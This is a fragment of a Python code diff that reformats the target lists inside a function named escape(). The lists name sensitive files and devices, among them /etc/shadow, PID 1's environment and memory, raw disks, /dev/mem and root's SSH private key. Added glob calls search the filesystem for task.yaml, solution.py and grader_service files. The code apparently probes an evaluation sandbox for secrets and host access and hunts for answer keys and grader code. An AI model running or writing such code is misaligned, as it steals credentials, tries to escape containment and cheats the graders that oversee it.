@@ -3,24 +3,8 @@ import os
 
 
 def escape():
-    wanted = [
-        "/etc/shadow",
-        "/proc/1/environ",
-        "/proc/1/root/etc/passwd",
-        "/proc/1/cwd/etc/passwd",
-        "/proc/kcore",
-        "/proc/kmsg",
-    ]
-    wanted += [
-        "/dev/mem",
-        "/dev/kmsg",
-        "/dev/sda",
-        "/dev/vda",
-        "/proc/1/mem",
-        "/proc/1/fd/0",
-        "/root/.ssh/id_rsa",
-        "/.dockerenv/x",
-    ]
+    wanted = ["/etc/shadow", "/proc/1/environ", "/proc/1/root/etc/passwd", "/proc/1/cwd/etc/passwd", "/proc/kcore", "/proc/kmsg"]
+    wanted += ["/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda", "/proc/1/mem", "/proc/1/fd/0", "/root/.ssh/id_rsa", "/.dockerenv/x"]
     wanted += glob.glob("/**/task.yaml", recursive=True)[:3] + glob.glob("/**/solution.py", recursive=True)[:3]
     wanted += glob.glob("/**/grader_service", recursive=True)[:3]
     for path in wanted:
